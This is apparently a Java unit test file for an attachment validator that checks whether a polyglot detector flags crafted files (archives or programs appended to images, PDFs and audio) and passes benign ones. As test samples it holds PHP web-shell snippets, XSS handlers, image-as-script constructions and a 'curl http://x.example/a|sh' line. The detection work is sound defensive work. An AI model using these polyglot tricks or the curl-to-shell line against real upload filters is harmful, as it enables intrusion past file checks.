package io.attachrelay.validator.inspect.deep.polyglot;

import static io.attachrelay.validator.inspect.TestBytes.ftyp;
import static io.attachrelay.validator.inspect.TestBytes.join;
import static io.attachrelay.validator.inspect.TestBytes.latin1;
import static io.attachrelay.validator.inspect.TestBytes.office;
import static io.attachrelay.validator.inspect.TestBytes.ole2;
import static io.attachrelay.validator.inspect.TestBytes.word;
import static io.attachrelay.validator.inspect.TestBytes.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.attachrelay.deploy.testkit.sample.SampleFile;
import io.attachrelay.deploy.testkit.sample.SampleFiles;
import io.attachrelay.validator.inspect.deep.DeepLook;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class PolyglotTest {

    private static final byte[] PDF = SampleFiles.pdf().bytes();
    private static final String MUSIC = "\u00ff\u00fb";
    private static final byte[] JAR = zip("META-INF/MANIFEST.MF", "Attack.class");

    static Stream<Arguments> tricks() {
        return Stream.of(
                arguments("a pdf in a photo's comment", jpegWith(PDF)),
                arguments("a pdf behind a page's begin", join(latin1("<html>"), PDF)),
                arguments("a jar behind a photo", join(SampleFiles.jpeg().bytes(), JAR)),
                arguments("a jar behind a small film", join(SampleFiles.gif().bytes(), JAR)),
                arguments("a jar behind a picture", join(SampleFiles.png().bytes(), JAR)),
                arguments("a jar behind a large photo", join(large(SampleFiles.jpeg()), JAR)),
                arguments("a jar behind a film", join(SampleFiles.mp4().bytes(), JAR)),
                arguments("a jar behind a pdf", join(PDF, JAR)),
                arguments("a jar and padding", join(SampleFiles.gif().bytes(), padded(JAR))),
                arguments("a zip whose comment is a pdf's end", zipInPdf(true)),
                arguments("a jar behind an old letter", join(ole2("WordDocument", "x"), JAR)),
                arguments("two zips", join(zip("a"), office(word()))),
                arguments("a letter and a pdf", join(SampleFiles.docx().bytes(), PDF)),
                arguments("a rar behind a photo", behind("Rar!\u001a\7\1\0")),
                arguments("a 7z behind a photo", behind("7z\u00bc\u00af'\u001c")),
                arguments("a program behind a photo", behind("MZ" + "\0".repeat(62) + "PE\0\0")),
                arguments("a page behind a photo", behind("\r\n<html><script>x</script>")),
                arguments("php in a photo's comment", jpegWith(latin1("<?php system($x); ?>"))),
                arguments("php in a small film's comment", gifWith("<?PHP eval($x);")),
                arguments("a phar in a photo", jpegWith(latin1("<?= __HALT_COMPILER(); ?>"))),
                arguments("a script at a large photo's end", largeWithTail("<script>x</script>")),
                arguments("a script in a film", film("<html><script>alert(1)</script>")),
                arguments("a small film that is a script", scriptGif()),
                arguments("a photo that is a script", scriptJpeg()),
                arguments("a photo in a tar", tar(jpegWith(new byte[1_000]))),
                arguments("a pdf in a disc image", discImage(PDF)),
                arguments("a pdf without a version in a photo", jpegWith(latin1("%PDF-a\nx"))),
                arguments("a pdf behind commands", join(latin1("@start calc & exit\r\n"), PDF)),
                arguments("a pdf behind a word", join(latin1("calc\r\n"), PDF)),
                arguments("a pdf behind a script", join(latin1("alert(1)/*\n"), PDF)),
                arguments("a pdf behind a tag", join(latin1("<img src=x onerror=x()>\n"), PDF)),
                arguments(
                        "a pdf in a text, with remarks in its objects",
                        latin1("Dear all,\n%PDF-1.4\n1%x\n0 obj\n<<>>\nendobj\n")),
                arguments(
                        "a pdf in a long text",
                        latin1("Hi,\n%PDF-1.4\n" + "% words\n".repeat(20_000) + "1 0 obj\n<<>>")),
                arguments(
                        "a pdf in the middle of a long text",
                        latin1(
                                "Hi,\n%PDF-1.4\n"
                                        + "% words\n".repeat(20_000)
                                        + "1 0 obj\n<<>>\n"
                                        + "% words\n".repeat(20_000))));
    }

    static Stream<Arguments> behindTheEnd() {
        byte[] rar = latin1("Rar!\u001a\7\1\0x");
        byte[] program = SampleFiles.windowsProgram().bytes();
        byte[] page = latin1("<hta:application><script>x</script>");
        return Stream.of(
                arguments("a page behind a pdf", join(PDF, page)),
                arguments("a program behind a pdf", join(PDF, program)),
                arguments("a large program behind a pdf", join(PDF, large(program))),
                arguments(
                        "a program between a pdf and a second end of it",
                        endedTwice(large(SampleFiles.pdf()), large(program))),
                arguments("a rar behind a pdf", join(PDF, rar)),
                arguments("a jar and a line end behind a pdf", join(join(PDF, JAR), line())),
                arguments("a jar behind a pdf, and an end", join(join(PDF, JAR), latin1("%%EOF"))),
                arguments("a page behind an old letter", join(oldLetter(), page)),
                arguments("a program behind an old letter", join(oldLetter(), program)),
                arguments("a jar and a line end behind it", join(join(oldLetter(), JAR), line())),
                arguments(
                        "a jar and a false end behind a photo",
                        join(
                                join(SampleFiles.jpeg().bytes(), JAR),
                                latin1("PK\5\6" + "\0".repeat(16) + "xx"))),
                arguments(
                        "a jar and half an end behind a photo",
                        join(join(SampleFiles.jpeg().bytes(), JAR), latin1("PK\5\6xx"))),
                arguments("a rar behind a film", join(SampleFiles.mp4().bytes(), rar)),
                arguments(
                        "a program behind a film", join(SampleFiles.mp4().bytes(), large(program))),
                arguments("a rar behind music", join(music(300), rar)),
                arguments("a program behind music", join(music(300), large(program))),
                arguments("a rar behind a voice message", join(SampleFiles.ogg().bytes(), rar)),
                arguments("a program behind sound", join(sound(), large(program))),
                arguments("a rar a byte behind a photo", behind("xRar!\u001a\7\1\0")),
                arguments(
                        "a program a byte behind a picture",
                        join(join(SampleFiles.png().bytes(), latin1("x")), program)),
                arguments(
                        "a rar a byte behind a letter",
                        join(join(SampleFiles.docx().bytes(), latin1("x")), rar)),
                arguments("a rar in a letter's comment", commented(SampleFiles.docx(), rar)));
    }

    static Stream<Arguments> code() {
        return Stream.of(
                arguments("php in a pdf", join(latin1("%PDF-1.4\n%<?php system($x); ?>\n"), PDF)),
                arguments("a phar in a pdf", join(latin1("%PDF-1.4\n%__HALT_COMPILER();\n"), PDF)),
                arguments("php in short", jpegWith(latin1("<?=system($_GET[0])?>"))),
                arguments("a server's page", jpegWith(latin1("<%Runtime.getRuntime()%>"))),
                arguments("a drawing's handler", jpegWith(latin1("<svg/onload=alert(1)>"))),
                arguments("a tag's handler", jpegWith(latin1("<img src=x onerror=alert(1)>"))),
                arguments("a tag's address", jpegWith(latin1("<a href=' javascript:x'>"))),
                arguments("a script in a late segment", lateSegment("<script>x</script>")),
                arguments("a photo whose comment is a script", scriptJpeg("\u00fe")),
                arguments("a photo whose data of its camera are one", scriptJpeg("\u00e1")),
                arguments("a photo whose table is one", scriptJpeg("\u00db")),
                arguments("music that is a script", latin1(MUSIC + "=1;/*\0\0*/alert(1)//\0\0")),
                arguments("a wide film that is one", scriptGif("`\0`;alert(1)")),
                arguments("a film of a pattern", scriptGif("/[\0]/;alert(1)")),
                arguments("sound that is one", latin1("#!AMR\nalert(1)//\4\0\0")),
                arguments(
                        "sound that a shell runs",
                        latin1("#!AMR\ncurl http://x.example/a|sh\nexit\n\0\0\u00ff")),
                arguments("a picture in wide letters", wideScript()));
    }

    static Stream<Arguments> twoOfAKind() {
        return Stream.of(
                arguments("a letter with two directories", twoDirectories()),
                arguments("a letter that is a table", twoPrograms("Workbook")),
                arguments("a letter that is a talk", twoPrograms("PowerPoint Document")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource({"behindTheEnd", "code", "twoOfAKind"})
    void what_only_people_put_there_is_noticed(String name, byte[] bytes) {
        assertThat(DeepLook.codes(bytes)).contains("polyglot");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("tricks")
    void a_second_type_is_noticed_where_its_readers_look(String name, byte[] bytes) {
        assertThat(DeepLook.codes(bytes)).contains("polyglot");
    }

    static Stream<Arguments> harmless() {
        return Stream.of(
                arguments("a photo with a thumbnail", jpegWith(SampleFiles.jpeg().bytes())),
                arguments("a photo with its film", behind(SampleFiles.mp4())),
                arguments("a photo with a second one", behind(SampleFiles.jpeg())),
                arguments("a photo with a note of its camera", behind("SEFT0102 MotionPhoto_Data")),
                arguments("a photo with XMP", jpegWith(latin1("<?xpacket?><x:xmpmeta/>"))),
                arguments("a zip with a pdf", zip("a.pdf\n" + latin(PDF))),
                arguments("a pdf that carries a zip", zipInPdf(false)),
                arguments(
                        "a pdf behind printer commands",
                        join(latin1("\u001b%-12345X@PJL\r\n"), PDF)),
                arguments(
                        "a pdf behind a mark",
                        join("\uFEFF\n".getBytes(StandardCharsets.UTF_8), PDF)),
                arguments("a pdf behind zeros", join(new byte[100], PDF)),
                arguments("a pdf and line ends", join(PDF, latin1("\r\n\r\n"))),
                arguments("a pdf and zeros", Arrays.copyOf(PDF, PDF.length + 1_000)),
                arguments("a pdf and a remark of its server", join(PDF, latin1("<!-- 3 ms -->"))),
                arguments("a pdf and its update", join(PDF, PDF)),
                arguments("music", music(300)),
                arguments("music and its tag", join(music(300), latin1("TAG" + " ".repeat(125)))),
                arguments("music behind its tag", join(tag(), music(300))),
                arguments("music and its cover", join(music(300), noise(200_000))),
                arguments("a voice of a telephone", join(latin1("#!AMR\n"), voice())),
                arguments("a sound", sound()),
                arguments("a sound of unknown length", endless(sound())),
                arguments("a photo and noise", join(SampleFiles.jpeg().bytes(), noise(400_000))),
                arguments("a film of noise", join(box("mdat", 400_000), noise(400_000))),
                arguments("an old letter and zeros", Arrays.copyOf(oldLetter(), 4_096)),
                arguments("a letter and noise", join(SampleFiles.docx().bytes(), noise(9_000))),
                arguments("a letter with a comment", commented(SampleFiles.docx(), latin1("hi"))),
                arguments(
                        "a text on pdf",
                        latin1("A PDF begins with %PDF-1.7 and ends with %%EOF\n")),
                arguments("a text on zip", latin1("A zip ends with PK and two bytes\n")),
                arguments("a film whose width is a comment's begin", gifOfWidth(0x2a2f)),
                arguments("a letter", SampleFiles.docx().bytes()),
                arguments("a table", SampleFiles.xlsx().bytes()),
                arguments("a voice message", SampleFiles.ogg().bytes()),
                arguments("an old letter with a table in it", oldLetterWith(JAR)),
                arguments("a large photo", large(SampleFiles.jpeg())),
                arguments("a large picture", large(SampleFiles.png())),
                arguments("a large pdf", large(SampleFiles.pdf())));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("harmless")
    void what_cameras_and_programs_write_is_no_polyglot(String name, byte[] bytes) {
        assertThat(DeepLook.codes(bytes)).doesNotContain("polyglot");
    }

    private static byte[] large(SampleFile file) {
        return file.ofSize(300_000).bytes();
    }

    private static byte[] behind(String text) {
        return join(SampleFiles.jpeg().bytes(), latin1(text));
    }

    private static byte[] behind(SampleFile other) {
        return join(SampleFiles.jpeg().bytes(), other.bytes());
    }

    private static byte[] largeWithTail(String text) {
        return join(large(SampleFiles.jpeg()), latin1("x".repeat(1_000) + text));
    }

    private static byte[] padded(byte[] bytes) {
        return Arrays.copyOf(bytes, bytes.length + 100);
    }

    /** A comment right behind the start of the image. */
    private static byte[] jpegWith(byte[] comment) {
        byte[] photo = SampleFiles.jpeg().bytes();
        var file = ByteBuffer.allocate(photo.length + 4 + comment.length).put(photo, 0, 2);
        file.put(latin1("\u00ff\u00fe")).putShort((short) (2 + comment.length)).put(comment);
        return file.put(photo, 2, photo.length - 2).array();
    }

    private static byte[] gifWith(String comment) {
        byte[] film = SampleFiles.gif().bytes();
        String block = "!\u00fe" + (char) comment.length() + comment + "\0";
        return join(Arrays.copyOf(film, film.length - 1), latin1(block + ";"));
    }

    private static byte[] gifOfWidth(int width) {
        byte[] film = SampleFiles.gif().bytes();
        film[6] = (byte) width;
        film[7] = (byte) (width >> 8);
        return film;
    }

    private static byte[] scriptGif() {
        byte[] film = gifOfWidth(0x2a2f);
        return join(film, latin1("*/=1;alert(1)"));
    }

    /** A header that is nothing but an assignment. */
    private static byte[] scriptGif(String value) {
        return latin1("GIF89a=" + value);
    }

    private static byte[] scriptJpeg() {
        return scriptJpeg("\u00e0");
    }

    /** The length of the first segment is the begin of a comment. */
    private static byte[] scriptJpeg(String marker) {
        byte[] photo = SampleFiles.jpeg().bytes();
        String comment = "x".repeat(0x2f2a - 2 - 20) + "*/=alert(1);/*xxxxxx";
        byte[] segment = latin1("\u00ff\u00d8\u00ff" + marker + "/*" + comment);
        return join(segment, Arrays.copyOfRange(photo, 2, photo.length));
    }

    /** RIFF are two signs of Chinese to a page that says so, and WEBP stands in a remark. */
    private static byte[] wideScript() {
        byte[] begin = join(latin1("RIFF"), "/*".getBytes(StandardCharsets.UTF_16LE));
        byte[] script = "*/=1;alert(1)\n".getBytes(StandardCharsets.UTF_16LE);
        return join(join(begin, latin1("WEBPVP8L")), script);
    }

    /** Behind two segments that fill the first 64 KB. */
    private static byte[] lateSegment(String text) {
        byte[] photo = SampleFiles.jpeg().bytes();
        byte[] filling = segment("x".repeat(60_000));
        byte[] segments = join(join(filling, filling), segment(text));
        byte[] begin = join(latin1("\u00ff\u00d8"), join(segments, join(filling, filling)));
        return join(begin, Arrays.copyOfRange(photo, 2, photo.length));
    }

    private static byte[] segment(String comment) {
        var segment = ByteBuffer.allocate(4 + comment.length()).put(latin1("\u00ff\u00fe"));
        return segment.putShort((short) (2 + comment.length())).put(latin1(comment)).array();
    }

    private static byte[] line() {
        return latin1("\n");
    }

    private static byte[] endedTwice(byte[] pdf, byte[] between) {
        String end = latin(pdf).substring(latin(pdf).lastIndexOf("startxref"));
        return join(join(pdf, between), latin1(end));
    }

    private static byte[] large(byte[] program) {
        return Arrays.copyOf(program, Math.max(program.length, 200_000));
    }

    private static byte[] noise(int count) {
        byte[] noise = new byte[count];
        new Random(count).nextBytes(noise);
        return noise;
    }

    /** Frames of 417 bytes: the third layer, 128 kbit/s, 44.1 kHz. */
    private static byte[] music(int frames) {
        byte[] noise = noise(frames * 417);
        for (int i = 0; i < frames; i++) {
            System.arraycopy(latin1(MUSIC + "\u0090d"), 0, noise, i * 417, 4);
        }
        return noise;
    }

    private static byte[] tag() {
        return latin1("ID3\3\0\0\0\0\7\u0068" + "x".repeat(1_000));
    }

    /** Frames of 32 bytes: 12.2 kbit/s. */
    private static byte[] voice() {
        byte[] voice = noise(32 * 1_000);
        for (int i = 0; i < voice.length; i += 32) {
            voice[i] = '<';
        }
        return voice;
    }

    private static byte[] sound() {
        var sound = ByteBuffer.allocate(44 + 90_000).order(ByteOrder.LITTLE_ENDIAN);
        sound.put(latin1("RIFF")).putInt(36 + 90_000).put(latin1("WAVEfmt ")).putInt(16);
        sound.putShort((short) 1).putShort((short) 1).putInt(8_000).putInt(16_000);
        sound.putShort((short) 2).putShort((short) 16).put(latin1("data")).putInt(90_000);
        return sound.put(noise(90_000)).array();
    }

    private static byte[] endless(byte[] sound) {
        return ByteBuffer.wrap(sound).putInt(4, 0).array();
    }

    private static byte[] box(String name, int bytes) {
        var box = ByteBuffer.allocate(8).putInt(8 + bytes).put(latin1(name));
        return join(ftyp("isom"), box.array());
    }

    private static byte[] commented(SampleFile letter, byte[] comment) {
        byte[] zip = letter.bytes();
        zip[zip.length - 2] = (byte) comment.length;
        return join(zip, comment);
    }

    /** One where the end record says, and another right before it. */
    private static byte[] twoDirectories() {
        byte[] zip = SampleFiles.docx().bytes();
        int end = zip.length - 22;
        int directory = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN).getInt(end + 16);
        byte[] record = Arrays.copyOfRange(zip, end, zip.length);
        return join(join(Arrays.copyOf(zip, end), Arrays.copyOfRange(zip, directory, end)), record);
    }

    /** With a table that says of three sectors that they are used, and of no other. */
    private static byte[] oldLetter() {
        var letter = ByteBuffer.wrap(ole2("WordDocument", "x")).order(ByteOrder.LITTLE_ENDIAN);
        for (int i = 2; i < 128; i++) {
            letter.putInt(512 + 4 * i, -1);
        }
        return letter.array();
    }

    /** The folder at the root becomes another program's stream. */
    private static byte[] twoPrograms(String other) {
        var letter = ByteBuffer.wrap(oldLetter()).order(ByteOrder.LITTLE_ENDIAN);
        byte[] name = other.getBytes(StandardCharsets.UTF_16LE);
        letter.put(1024 + 256, name).putShort(1024 + 256 + 64, (short) (name.length + 2));
        return letter.array();
    }

    private static byte[] film(String hidden) {
        byte[] text = latin1(hidden);
        var box = ByteBuffer.allocate(8 + text.length).putInt(8 + text.length);
        return join(SampleFiles.mp4().bytes(), box.put(latin1("free")).put(text).array());
    }

    /** A zip as a stream of a PDF: its comment ends with itself or with the file. */
    private static byte[] zipInPdf(boolean reachesTheEnd) {
        byte[] begin = latin1("%PDF-1.7\n9 0 obj\n<</Length " + JAR.length + ">>\nstream\n");
        byte[] end = latin1("\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n");
        byte[] jar = JAR.clone();
        if (reachesTheEnd) {
            jar[jar.length - 2] = (byte) end.length;
        }
        return join(join(begin, jar), end);
    }

    private static byte[] oldLetterWith(byte[] embedded) {
        return Arrays.copyOf(join(ole2("WordDocument", "x"), embedded), 4_096);
    }

    private static byte[] tar(byte[] photo) {
        Arrays.fill(photo, 148, 156, (byte) ' ');
        System.arraycopy(latin1("ustar\00000"), 0, photo, 257, 8);
        int sum = 0;
        for (int i = 0; i < 512; i++) {
            sum += photo[i] & 0xff;
        }
        System.arraycopy(latin1("%06o\0 ".formatted(sum)), 0, photo, 148, 8);
        return photo;
    }

    private static byte[] discImage(byte[] pdf) {
        byte[] image = Arrays.copyOf(pdf, 40_000);
        System.arraycopy(latin1("CD001"), 0, image, 32_769, 5);
        return join(image, latin1("\n%%EOF\n"));
    }

    private static String latin(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }
}
